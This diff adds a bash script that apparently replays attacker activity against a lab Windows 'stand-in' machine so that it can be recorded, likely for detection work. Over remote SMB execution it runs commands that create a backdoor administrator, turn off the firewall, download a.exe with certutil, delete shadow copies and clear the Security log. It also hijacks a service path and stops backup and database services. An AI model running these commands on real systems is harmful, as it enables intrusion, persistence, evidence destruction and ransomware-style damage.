@@ -1,0 +1,45 @@
+# What is done to the stand-in in each recording, one function each. Sourced by record-stand-in.sh.
+at=${address[sales]} admin="LAB/Administrator:$password@${address[sales]}"
+
+stand_in() {
+  rm -rf "$lab/machine"; mkdir "$lab/machine"
+  serve sales "$py" "$here/standin" "$lab/machine" SALES-PC "$password" & standin=$!
+  for _ in $(seq 100); do on client bash -c "</dev/tcp/$at/445" 2>/dev/null && return; sleep 0.1; done
+}
+
+shell() { local mode=$1; shift; printf '%s\n' "$@" exit | tool "$mode" "$admin"; }
+
+do_commands() {
+  shell smbexec whoami 'net user' 'net user helper Passw0rd!7 /add' 'net localgroup administrators helper /add' \
+    'net group "domain admins" /domain' 'nltest /dclist:lab.local' 'netsh advfirewall set allprofiles state off' \
+    'certutil -urlcache -split -f http://10.1.0.66/a.exe C:\Windows\Temp\a.exe' \
+    'vssadmin delete shadows /all /quiet' 'wevtutil cl Security'
+}
+
+published() { on client "$py" "$here/published.py" "$1" "$at" "$password"; }
+
+do_cobalt_strike() { published cobalt_strike; }
+do_metasploit() { published metasploit; }
+do_netexec() { published netexec; published netexec_task; }
+do_crackmapexec() { published crackmapexec; }
+do_sliver() { published sliver; }
+
+# A service borrowed and given back, six stopped, one looked at.
+do_services_borrowed() {
+  local own='C:\Windows\system32\svchost.exe -k netsvcs -p'
+  tool services "$admin" change -name XblAuthManager -path 'C:\Windows\System32\cmd.exe /c whoami'
+  tool services "$admin" start -name XblAuthManager
+  tool services "$admin" change -name XblAuthManager -path "$own"
+  for name in Spooler MSSQLSERVER SQLWriter VSS BackupExecAgent W3SVC; do tool services "$admin" stop -name "$name"; done
+}
+
+# Administration: one service asked about, stopped and started again.
+do_services_asked() {
+  for what in status stop start; do on client net -s "$(conf client)" rpc service "$what" Spooler -I "$at" -U "LAB/Administrator%$password"; done
+}
+
+do_tasks() {
+  tool atexec "$admin" whoami
+  published task_rights
+  published task_account
+}
